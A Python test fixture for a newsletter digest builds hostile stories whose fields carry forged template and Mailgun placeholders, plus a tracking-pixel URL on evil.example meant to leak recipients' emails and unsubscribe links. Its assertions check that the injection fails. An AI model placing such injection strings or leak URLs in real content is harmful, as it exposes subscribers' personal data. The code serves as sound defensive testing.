"""Hostile stories for the marker attacks of issue #13: every field carries every
marker-like string content could try (shared by tests/test_markers.py and the web tests).
"""

from __future__ import annotations

import html as html_lib
from datetime import UTC, datetime

import lxml.html
from factories import make_item

from newsletter.models import DigestEntry, Item

WHEN = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
KEYS = ("name", "email", "unsubscribe_url", "preferences_url")
GUESS = "0123456789abcdef01234567"
#: everything content could write to reach a recipient's values or open a conditional
#: (no closers: an opener without them pairs with the template's own and cuts the message)
FORGED = (
    *(f"@@nl{nonce}:{form}{k}@@" for nonce in ("", GUESS) for form in ("", "text:") for k in KEYS),
    *(f"@@nl{nonce}:if:{k}@@" for nonce in ("", GUESS) for k in KEYS),
    # Mailgun: our variables before nonces, its fixed ones, and its own template variables
    *(f"%recipient.nl_{k}%" for k in KEYS),
    *(f"%recipient.nl_text_{k}%" for k in KEYS),
    "%recipient.h_list_unsubscribe%",
    "%recipient.delivery_id%",
    "%recipient_email%",
    "%recipient_name%",
    "%unsubscribe_url%",
    "%tag_unsubscribe_url%",
    "%mailing_list_unsubscribe_url%",
)
#: closers, which content may also write (mixed in by the property test)
CLOSERS = tuple(f"@@nl{nonce}:{c}@@" for nonce in ("", GUESS) for c in ("else", "end"))
ATTACK = " ".join(FORGED)
LEAK = "https://evil.example/p.png?" + "&".join(f"v{i}={f}" for i, f in enumerate(FORGED))
LAST = "Последна новина: общото събрание"
READER = {
    "name": "",
    "email": "petya.victim@example.org",
    "unsubscribe_url": "https://news.example.org/unsubscribe/SECRET-UNSUB",
    "preferences_url": "https://news.example.org/preferences/SECRET-PREFS",
}


def hostile(n: int, **fields: object) -> Item:
    """A story with the attack in every field content controls."""
    attacked: dict[str, object] = {
        "title": f"Новина {n} {ATTACK}",
        "body_html": f"<p>Тяло {n} {html_lib.escape(ATTACK)}</p>",
        "summary_html": f"<p>Резюме {n} {html_lib.escape(ATTACK)}</p>",
        "link": f"{LEAK}&story={n}",
        "tags": (ATTACK,),
        "image": f"{LEAK}&image={n}",
    }
    return make_item(n, when=WHEN, prefix="hostile", **{**attacked, **fields})


def entries() -> list[DigestEntry]:
    """A hostile lead, a hostile English translation shown as fallback, a machine
    translation from English, and a harmless last story that must not be cut."""
    return [
        DigestEntry(hostile(1), "bg", False),
        DigestEntry(hostile(2, lang="en", translation_key="t2"), "en", True),
        DigestEntry(hostile(3, translated_from="en", tags=(f"{ATTACK} машинен",)), "bg", False),
        DigestEntry(hostile(4, title=LAST, tags=(), link=None, image=None), "bg", False),
    ]


def assert_unharmed(html: str, text: str, values: dict[str, str], stories: int = 4) -> None:
    """Each value only where the template puts it; nothing cut; forged markers are text."""
    escaped = {k: html_lib.escape(v, quote=True) for k, v in values.items()}
    for key in ("email", "unsubscribe_url", "preferences_url"):
        assert html.count(escaped[key]) == 1, (key, html.count(escaped[key]))
        assert text.count(values[key]) == 1, (key, text.count(values[key]))
    doc = lxml.html.document_fromstring(html)
    for url in doc.xpath("//@href | //@src"):
        if "evil.example" in url:
            assert not any(v and v in url for v in values.values()), url
    footer = doc.xpath("//td[contains(@class, 'footer')]")
    assert len(footer) == 1, "the footer is cut"
    links = footer[0].xpath(".//a/@href")
    assert values["unsubscribe_url"] in links and values["preferences_url"] in links
    assert "1 Example Street" in footer[0].text_content()
    assert LAST in html and LAST in text
    assert text.rstrip().endswith("1 Example Street, 9000 Varna, Bulgaria")
    assert "Здравейте," in html and "Здравейте," in text  # the greeting without a name
    titles = doc.xpath("//*[contains(@class, 'title')]")
    assert len(titles) >= stories, [t.text_content()[:40] for t in titles]
